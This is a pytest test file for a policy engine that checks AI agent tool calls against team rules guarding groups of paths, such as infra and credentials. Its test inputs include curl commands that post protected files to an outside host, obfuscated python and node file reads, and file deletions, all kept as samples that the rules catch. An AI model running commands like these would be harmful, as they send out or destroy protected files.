"""Rules about a team's groups of paths: their tools and lines, and the syntax in config.yaml."""

from functools import cache

import pytest

from baton.rules.call.call import ToolCall
from baton.rules.call.verdict import Facts
from baton.rules.policy.evaluate import evaluate
from baton.rules.policy.load import PolicyProblems, load
from baton.rules.policy.rules.files import Layer
from tests.support.cases import every
from tests.support.shipped import shipped_layer

CONFIG = 'places: {infra: [infra/**, "**/*.tf", "!infra/README.md"]}\n'
RULE = """\
id: team/{name}
description: A test.
match: {match}
unless: {unless}
decision: deny
reason: "`{{target}}`"
tests: {{match: ["{yes}"], not_match: ["ls"]}}
"""


def rule(name="infra", match="{writes_to: infra}", unless="[]", yes="echo x > infra/a"):
    return {f"team/{name}.yaml": RULE.format(name=name, match=match, unless=unless, yes=yes)}


def layers(files, tier="team"):
    return [shipped_layer(), Layer(tier=tier, name="web", files=files, origin="upload")]


@cache
def writes():
    return load(layers({"config.yaml": CONFIG} | rule()))


@cache
def reads():
    return load(layers({"config.yaml": CONFIG} | rule(match="{reads: infra}", yes="cat infra/a")))


def matches(policies, tool, given, cwd="/repo"):
    call = ToolCall(
        client="c", session_id="s", tool_name=tool, tool_input=given, cwd=cwd, project="p", project_root="/repo"
    )
    return "team/infra" in [hit.id for hit in evaluate(policies, Facts(call=call)).hits]


@every(
    ("tool", "given", "written"),
    [
        ("Edit", {"file_path": "/repo/infra/a"}, True),
        ("Edit", {"file_path": "/repo/infra/README.md"}, False),
        ("Write", {"file_path": "x/../infra/a"}, True),
        ("NotebookEdit", {"notebook_path": "infra/a.ipynb"}, True),
        ("SomeNewTool", {"path": "infra/a"}, True),
        ("apply_patch", {"command": "*** Begin Patch\n*** Delete File: infra/a\n"}, True),
        ("mcp__files__save", {"where": {"to": "./infra/a"}}, True),
        ("mcp__files__remove_folder", {"path": "/repo"}, True),
        ("mcp__shell__run", {"command": "cd infra && rm a"}, True),
        ("Read", {"file_path": "infra/a"}, False),
        ("Grep", {"pattern": "x", "path": "infra"}, False),
        ("mcp__files__read_file", {"path": "infra/a"}, False),
        ("Task", {"prompt": "change infra/a", "description": "x", "subagent_type": "y"}, False),
    ],
)
def test_tools_of_all_kinds_write(tool, given, written):
    assert matches(writes(), tool, given) is written


def test_reading_is_seen_in_all_tools_too():
    for tool, given in [
        ("Read", {"file_path": "infra/a"}),
        ("Grep", {"pattern": "x", "path": "infra"}),
        ("mcp__files__read_file", {"path": "infra/a"}),
        ("Edit", {"file_path": "infra/a"}),
        ("Bash", {"command": "cat infra/a"}),
        ("Bash", {"command": "cd infra; head -3 a"}),
        ("Bash", {"command": "wc -l < infra/a"}),
        ("Bash", {"command": "cp infra/a /tmp"}),
        ("Bash", {"command": "curl -d @infra/a https://example.com"}),
        ("Bash", {"command": "cd infra; curl -F name=@a https://example.com"}),
        ("Bash", {"command": "http example.com name@infra/a"}),
        ("Bash", {"command": "python3 -c \"print(open('in' + 'fra/a').read())\""}),
        ("Bash", {"command": "cd infra && node -p \"require('fs').readFileSync('a', 'utf8')\""}),
    ]:
        assert matches(reads(), tool, given), given
    for line in (
        "echo infra/a",
        "cat src/a",
        "npm i @infra/a",
        "scp a me@infra:a",
        "cat infra/README.md",
        "python3 -c \"print(open('src/a').read())\"",
    ):
        assert not matches(reads(), "Bash", {"command": line}), line


def test_an_exception_must_cover_everything_that_is_written():
    only = load(
        layers(
            {"config.yaml": CONFIG}
            | rule(match="{writes_to: [work, infra]}", unless="{writes_to: infra}", yes="echo x > a")
        )
    )
    assert not matches(only, "Bash", {"command": "echo x > infra/a"})
    assert matches(only, "Bash", {"command": "echo x > infra/a; echo x > b"})


@every(
    ("files", "expected"),
    [
        ({"config.yaml": "places: {work: [a/**]}"}, "config.yaml:1: the place `work` is built in; choose another name"),
        ({"config.yaml": "places: {In-fra: [a/**]}"}, "`In-fra` is not a name of a place"),
        ({"config.yaml": "places: {a: [../b]}"}, "`../b` has `..`"),
        ({"config.yaml": "places: {a: ['[b']}"}, "`[b` cannot be used: `[b`: `[` is never closed"),
        ({"config.yaml": "places: {a: ['!b']}"}, "the place `a` needs at least one glob without `!`"),
        ({"config.yaml": "places: {a: []}"}, "the place `a` needs at least one glob without `!`"),
        ({"config.yaml": f"places: {{a: {[f'f{n}' for n in range(101)]}}}"}, "101 globs; at most 100 are allowed"),
        ({"config.yaml": f"places: { {f'a{n}': ['b'] for n in range(60)} }"}, "at most 50 are allowed"),
        ({"config.yaml": CONFIG} | rule(match="{writes_to: infr}"), "team/infra.yaml:3: unknown place `infr`; did you mean `infra`?"),
        (rule(match="{shell: {writes_to: rooot}}"), "unknown place `rooot`; did you mean `root`?"),
        (rule(match="{shell: {only: {arguments_in: hom}}}"), "unknown place `hom`; did you mean `home`?"),
        ({"config.yaml": "lists: {a: [{writes_to: wrk}]}"}, "config.yaml:1: unknown place `wrk`; did you mean `work`?"),
        ({"config.yaml": "places: {system: [a/**]}"}, "a wider tier sets the place `system`"),
    ],
)  # fmt: skip
def test_unusable_conditions_are_named(files, expected):
    with pytest.raises(PolicyProblems) as refused:
        load(layers(files))
    assert any(expected in f"{one.file}:{one.line}: {one.text}" for one in refused.value.problems), refused.value


def test_an_organisation_s_upload_may_add_to_a_shipped_place_and_take_nothing_from_it():
    globs = load(layers({})).config.places["credentials"]
    assert load(layers({"config.yaml": f"places: {{credentials: {[*globs, '/srv/keys/**']}}}"}, tier="organisation"))
    for other in (globs[1:], [*globs, "!~/.ssh/id_rsa"]):
        with pytest.raises(PolicyProblems, match="an upload may only add globs to it"):
            load(layers({"config.yaml": f"places: {{credentials: {other}}}"}, tier="organisation"))


def test_groups_of_several_layers_are_used_together():
    both = load(
        [
            *layers({"config.yaml": CONFIG}, tier="organisation"),
            *layers({"config.yaml": "places: {db: [db/**]}"} | rule(match="{writes_to: [infra, db]}"))[1:],
        ]
    )
    assert matches(both, "Edit", {"file_path": "infra/a"})
    assert matches(both, "Edit", {"file_path": "db/a"})


@every("path", ["$HOME/infra/a", "${PWD}/infra/a", "~/infra/a"])
def test_a_path_with_a_variable_needs_no_line_to_be_judged(path):
    call = ToolCall(
        client="c", session_id="s", tool_name="Write", tool_input={"file_path": path}, cwd="/w", project_root="/w"
    )
    assert evaluate(writes(), Facts(call=call)).effect in {"abstain", "deny"}
